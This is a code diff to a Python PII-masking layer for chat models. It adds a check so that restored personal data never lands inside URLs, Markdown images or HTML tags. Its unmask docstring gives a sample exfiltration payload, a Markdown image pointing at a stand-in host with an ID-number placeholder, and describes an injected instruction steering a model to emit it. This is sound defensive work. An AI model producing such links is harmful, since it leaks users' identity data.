@@ -10,50 +10,8 @@ from __future__ import annotations
 import re
 from dataclasses import dataclass, field
 
-_CJK = r"[\u4e00-\u9fff]"
-# Characters that end a name rather than continue it ("借款人张三已逾期").
-_STOP = "已逾欠的在于是名等及和与向称说请将被因从到对为了个先女您你他她我身电手住家地户账卡银借还拖涉逃即应需须务必要会就都也并或有无不没所之其这那今后前上下内外共合计本息元万号日月年时"
-_GIVEN = rf"(?:(?![{_STOP}]){_CJK})"
-# Common surnames minus ones that are everyday words (和, 向, 于 …), so that an
-# unlabeled "借款人和担保人" is not read as a name.
-_SURNAMES = (
-    "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗郑梁谢宋唐许韩冯邓曹彭曾肖田董袁潘蒋蔡余杜叶程苏魏吕丁任沈"
-    "姚卢姜崔钟谭陆汪范金石廖贾夏韦付傅方白邹孟熊秦邱江尹薛闫阎段雷侯龙史陶黎贺顾毛郝龚邵钱严覃武戴莫孔"
-    "汤温康施牛樊葛邢齐易乔伍庞颜倪庄聂章鲁岳翟殷詹申欧耿兰焦俞左柳甘祝包宁尚符舒阮柯纪梅童凌毕季裴霍"
-    "涂苗谷盛曲翁冉骆蓝游辛靳管柴蒙鲍喻祁蒲房滕屈饶牟艾尤穆农司卓古吉缪简芦麦褚娄窦戚岑景宫费卜冷晏席"
-    "卫米柏宗瞿桂佟臧闵苟邬边卞姬仇栾隋刁沙荣巫寇桑郎甄丛仲虞敖巩佘池查麻苑迟邝"
-)
-_SURNAME = rf"(?:欧阳|司马|上官|诸葛|东方|皇甫|尉迟|公孙|慕容|长孙|宇文|司徒|夏侯|令狐|端木|[{_SURNAMES}])"
-_NAME_LABEL = r"(?:姓名|户名|开户名|收款人|借款人|联系人|持卡人|当事人|紧急联系人|我叫|名叫)"
-_ADDRESS_LABEL = r"(?:家庭住址|户籍地址|户籍所在地|现住址|居住地址|住址|家住|地址|户籍地|居住地|住在)"
-# An address names a place or a house number; "到您户籍地走访" has neither.
-_PLACE = r"[^，,。；;！!？?、\s]*[省市区县镇乡村路街道巷弄号楼栋室院\d]"
-_OFFICIAL_HOSTS = r"(?:gov\.cn|12377\.cn|12321\.cn|chinacourt\.org|nifa\.org\.cn)"
+from .pii import Span, _room, find_spans
 
-# Spans that look personal but are public: official sites and service numbers.
-PROTECTED = [
-    re.compile(rf"(?:https?://)?(?:[A-Za-z0-9._%+-]+@)?(?:[A-Za-z0-9-]+\.)*{_OFFICIAL_HOSTS}(?::\d+)?(?:/[\x21-\x7e]*)?"),
-    re.compile(
-        r"(?<!\d)(?:12368|12378|12377|12381|12321|12315|12345|12363|12389|96110|110|10086|10010|10000"
-        r"|95\d{3,4}|[48]00[ -]?\d{3}[ -]?\d{4})(?!\d)"
-    ),
-]
-# (label, pattern) in priority order; a pattern's group "v", if any, is the masked part.
-PATTERNS: list[tuple[str, re.Pattern[str]]] = [
-    ("邮箱", re.compile(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}")),
-    ("身份证", re.compile(
-        r"(?<![0-9A-Za-z])[1-9]\d{5}(?:18|19|20)\d{2}(?:0[1-9]|1[0-2])(?:0[1-9]|[12]\d|3[01])\d{3}[0-9Xx](?![0-9A-Za-z])")),
-    ("身份证", re.compile(r"(?<![0-9A-Za-z])[1-9]\d{7}(?:0[1-9]|1[0-2])(?:0[1-9]|[12]\d|3[01])\d{3}(?![0-9A-Za-z])")),
-    ("银行卡", re.compile(r"(?<!\d)(?:\d{16,19}|\d{4}(?:[ -]\d{4}){3}(?:[ -]?\d{1,3})?)(?!\d)")),
-    ("手机号", re.compile(r"(?<![\d+])(?:(?:\+|00)?86[ -]?)?1[3-9]\d(?:[ -]?\d{4}){2}(?!\d)")),
-    ("电话", re.compile(r"(?<!\d)(?:[(（]0\d{2,3}[)）]|0\d{2,3}[ -]?)[2-9]\d{6,7}(?!\d)")),
-    # A longer run after "收款人：" is a company, not a person.
-    ("姓名", re.compile(rf"{_NAME_LABEL}\s*[:：]\s*(?P<v>(?:{_GIVEN}|·){{2,5}})(?!{_GIVEN})")),
-    ("姓名", re.compile(rf"{_NAME_LABEL}(?:为|是)?(?P<v>{_SURNAME}{_GIVEN}{{1,2}})")),
-    ("姓名", re.compile(rf"(?P<v>{_SURNAME}{_GIVEN}{{0,2}})(?=先生|女士|小姐)")),
-    ("地址", re.compile(
-        rf"{_ADDRESS_LABEL}\s*[:：]?\s*(?:为|是|在)?\s*(?P<v>(?!https?:|www\.)(?={_PLACE})[^，,。；;！!？?、\s]{{2,60}})")),
-]
 LABELS = ("手机号", "电话", "身份证", "银行卡", "邮箱", "姓名", "地址")
 # Lenient on purpose: models sometimes echo 〔姓名1〕 as 【姓名1】 or [姓名 1].
 PLACEHOLDER = re.compile(rf"[〔【\[] ?(?P<label>{'|'.join(LABELS)}) ?(?P<n>\d{{1,4}}) ?[〕】\]]")
@@ -90,37 +48,23 @@ class Vault:
         return len(self.by_slot)
 
 
-Span = tuple[int, int, str | None]  # start, end, label (None = protected, keep as is)
-
-
-def _room(start: int, end: int, taken: list[Span]) -> int:
-    """How far a new span may reach without overlapping taken ones; 0 if its start is taken."""
-    for s, e, _ in taken:
-        if s <= start < e:
-            return 0
-        if start < s < end:
-            end = s
-    return end
-
-
 def _find_spans(text: str, vault: Vault) -> list[Span]:
-    taken: list[Span] = [(m.start(), m.end(), None) for p in PROTECTED for m in p.finditer(text)]
-    for label, pattern in PATTERNS:
-        clippable = label in ("姓名", "地址")  # a clipped number would be half-masked
-        for m in pattern.finditer(text):
-            start, end = m.span("v") if "v" in pattern.groupindex else m.span()
-            reach = _room(start, end, taken)
-            if reach == end or (clippable and reach - start >= 2):
-                taken.append((start, reach, label))
-    # Values seen before (this turn or earlier) are masked wherever they recur,
-    # e.g. a name from "户名：张三" that the model later repeats bare.
-    known = sorted(vault.by_value, key=lambda k: -len(k[1]))
+    # Placeholders already in the text are never read as data ("〔地址1〕" holds a label word
+    # and a digit); values seen before (this turn or earlier) are masked wherever they recur,
+    # first, so a fresh reading of glued text ("…12346222-0212…") cannot split them.
+    taken: list[Span] = [(m.start(), m.end(), None) for m in PLACEHOLDER.finditer(text)]
+    _add_recurring(text, sorted(vault.by_value, key=lambda k: -len(k[1])), taken)
+    taken = find_spans(text, taken)
     found = {(label, text[s:e]) for s, e, label in taken if label}
-    for label, value in [*known, *sorted(found, key=lambda k: -len(k[1]))]:
+    _add_recurring(text, sorted(found, key=lambda k: -len(k[1])), taken)
+    return sorted(s for s in taken if s[2])
+
+
+def _add_recurring(text: str, values: list[tuple[str, str]], taken: list[Span]) -> None:
+    for label, value in values:
         for m in re.finditer(re.escape(value), text):
             if len(value) >= 2 and _room(m.start(), m.end(), taken) == m.end():
                 taken.append((m.start(), m.end(), label))
-    return sorted(s for s in taken if s[2])
 
 
 def mask(text: str, vault: Vault | None = None) -> tuple[str, Vault]:
@@ -135,14 +79,49 @@ def mask(text: str, vault: Vault | None = None) -> tuple[str, Vault]:
     return "".join(out), vault
 
 
-def unmask(text: str, vault: Vault) -> str:
-    """Put the real values back; placeholders the vault does not know stay as they are."""
+def unmask(text: str, vault: Vault, context: str = "") -> str:
+    """Put the real values back, but only in plain text.
 
-    def restore(m: re.Match[str]) -> str:
+    A placeholder inside a link or image target, a bare URL, or an HTML tag stays a
+    placeholder: a model that follows an injected instruction could otherwise make
+    the page fetch `![](http://host/?id=〔身份证1〕)` with the real number. `context`
+    is the text shown before `text` (for streaming). Unknown placeholders stay too.
+    """
+    full, offset = context + text, len(context)
+    out, pos = [], 0
+    for m in PLACEHOLDER.finditer(text):
         value = vault.lookup(m["label"], int(m["n"]))
-        return m.group(0) if value is None else value
+        if value is None or in_link(full, offset + m.start()):
+            continue
+        out += [text[pos : m.start()], value]
+        pos = m.end()
+    out.append(text[pos:])
+    return "".join(out)
 
-    return PLACEHOLDER.sub(restore, text)
+
+# What makes the text before a placeholder a URL, a link/image target or markup.
+_URL_MARKS = re.compile(r"[a-z][a-z0-9+.-]*:|//|www\.|[a-z0-9-]+(?:\.[a-z0-9-]+)+(?::\d+)?[/?#]|[?&][\w.-]*=",
+                        re.IGNORECASE)
+_REF_DEF = re.compile(r"[ \t]{0,3}\[[^\]\n]{0,200}\]:")
+_RUN_END = " \t\r\n\f\v<>\"'`\u3000"
+MAX_RUN = 2048  # a longer unbroken run before a placeholder is treated as a URL (safe side, bounded work)
+
+
+def in_link(text: str, index: int) -> bool:
+    """True when position `index` of `text` is part of a URL, a Markdown link/image target or an HTML tag."""
+    if text.rfind("<", 0, index) > text.rfind(">", 0, index):
+        return True  # <img src=…, <a href=…, <http://…> (tags may span lines)
+    line = text.rfind("\n", 0, index) + 1
+    target = text.rfind("](", line, index)
+    if target >= 0 and text.find(")", target, index) < 0:
+        return True  # [text](target… or ![alt](target…
+    if _REF_DEF.match(text, line):
+        return True  # [1]: target
+    window = max(line, index - MAX_RUN)
+    start = max(window, *(text.rfind(c, window, index) + 1 for c in _RUN_END))
+    if start == window > line:
+        return True  # no break within MAX_RUN characters
+    return bool(_URL_MARKS.search(text, start, index))
 
 
 def mask_messages(messages: list[dict], vault: Vault) -> list[dict]:
@@ -170,16 +149,22 @@ class Unmasker:
     def __init__(self, vault: Vault):
         self.vault = vault
         self._held = ""
+        self._seen = ""  # masked text released so far: decides whether a placeholder sits in a link
 
     def feed(self, delta: str) -> str:
         text = self._held + delta
         cut = _open_tail(text)
         self._held = text[cut:]
-        return unmask(text[:cut], self.vault)
+        return self._release(text[:cut])
 
     def flush(self) -> str:
         text, self._held = self._held, ""
-        return unmask(text, self.vault)
+        return self._release(text)
+
+    def _release(self, text: str) -> str:
+        shown = unmask(text, self.vault, self._seen)
+        self._seen += text
+        return shown
 
 
 def _open_tail(text: str) -> int:
